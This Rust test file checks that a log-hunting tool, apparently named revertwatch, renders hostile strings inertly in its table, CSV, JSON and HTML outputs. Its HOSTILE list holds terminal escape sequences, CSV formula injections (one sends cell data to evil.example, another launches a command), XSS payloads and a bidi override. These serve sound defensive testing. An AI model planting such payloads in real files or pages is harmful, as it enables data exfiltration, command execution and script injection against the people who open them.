//! Attacker-controlled strings are data in every output format: terminal escapes are made
//! visible in tables, CSV formulas are defused, JSON stays valid and round-trips the value, and
//! HTML escapes it (see also html_report.rs, which runs the page in Chromium).

mod support;

use serde_json::Value;
use support::{fixture, revertwatch};

/// Values an attacker can put in a user agent, a role session name or a resource tag.
const HOSTILE: &[&str] = &[
    "\u{1b}]0;owned\u{7}\u{1b}[2J\u{1b}[31mred",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "<script>alert(1)</script>\"><img src=x onerror=alert(2)>",
    "\"},{\"injected\":true,\"x\":\"",
    "back\\slash\nnew\rline\ttab",
    "bidi \u{202e}gnp.exe",
    "\u{9b}31mC1 CSI",
];

/// The AWS full revert, with every string the attacker controls replaced by one hostile value.
fn hostile_fixture(dir: &std::path::Path, value: &str, n: usize) -> std::path::PathBuf {
    let text = std::fs::read_to_string(fixture("scenarios/aws/full-revert.json")).unwrap();
    let mut v: Value = serde_json::from_str(&text).unwrap();
    for r in v["Records"].as_array_mut().unwrap() {
        r["userAgent"] = Value::String(value.to_string());
        r["sourceIPAddress"] = Value::String(value.to_string());
        if let Some(arn) = r["userIdentity"]["arn"].as_str() {
            r["userIdentity"]["arn"] = Value::String(format!("{arn}/{value}"));
        }
    }
    let path = dir.join(format!("hostile-{n}.json"));
    std::fs::write(&path, v.to_string()).unwrap();
    path
}

fn hunt(path: &std::path::Path, format: &[&str]) -> String {
    let mut args = vec!["hunt", path.to_str().unwrap()];
    args.extend_from_slice(format);
    let run = revertwatch(&args, None);
    run.expect_code(0);
    run.stdout
}

#[test]
fn hostile_values_are_inert_in_every_format() {
    let dir = tempfile::tempdir().unwrap();
    for (n, value) in HOSTILE.iter().enumerate() {
        let path = hostile_fixture(dir.path(), value, n);

        // Tables: no control character reaches the terminal, for incidents and events alike.
        for view in ["incidents", "events"] {
            let table = hunt(&path, &["--view", view]);
            assert!(
                !table.chars().any(|c| c.is_control() && c != '\n'),
                "{value:?} leaked a control character into the {view} table:\n{table}"
            );
            assert!(
                !table.contains('\u{202e}'),
                "bidi override in the {view} table"
            );
        }

        // CSV: every cell that starts like a formula is defused, and the file parses back.
        for view in ["incidents", "events"] {
            let csv = hunt(&path, &["--view", view, "--format", "csv"]);
            let mut reader = csv::Reader::from_reader(csv.as_bytes());
            for record in reader.records() {
                for cell in record.unwrap().iter() {
                    assert!(
                        !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                        "{value:?}: a live formula cell {cell:?} in the {view} CSV"
                    );
                }
            }
        }

        // JSON (jsonl and OCSF): valid, one object per line, and the value comes back intact.
        for format in ["jsonl", "ocsf"] {
            let out = hunt(&path, &["--format", format]);
            let lines: Vec<Value> = out
                .lines()
                .map(|l| serde_json::from_str(l).expect("valid JSON"))
                .collect();
            assert_eq!(lines.len(), 1, "{format}: {out}");
            assert!(!out.contains('\u{1b}'), "{format}: a raw escape byte");
            let flat = lines[0].to_string();
            let encoded = serde_json::to_string(value).unwrap();
            assert!(
                flat.contains(&encoded[1..encoded.len() - 1]),
                "{format}: {value:?} did not round-trip"
            );
        }

        // HTML: never raw markup.
        let html = hunt(&path, &["--format", "html"]);
        assert!(
            !html.contains("<script>alert(1)"),
            "raw script in the report"
        );
        assert!(
            !html.contains("onerror=alert(2)>"),
            "raw attribute injection in the report"
        );
    }
}
